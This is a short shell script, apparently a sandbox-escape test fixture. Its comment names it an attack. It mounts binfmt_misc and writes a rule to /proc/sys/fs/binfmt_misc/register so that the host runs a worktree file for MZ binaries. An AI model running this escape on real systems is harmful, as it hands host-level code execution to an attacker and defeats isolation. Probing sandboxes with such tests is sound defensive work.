# attack: register an interpreter that the host would run
# outside: not shown: it would be registered
echo tried
mkdir -p formats && mount -t binfmt_misc none formats && exit 0
echo ':x:M::MZ::/worktree/x:' > /proc/sys/fs/binfmt_misc/register
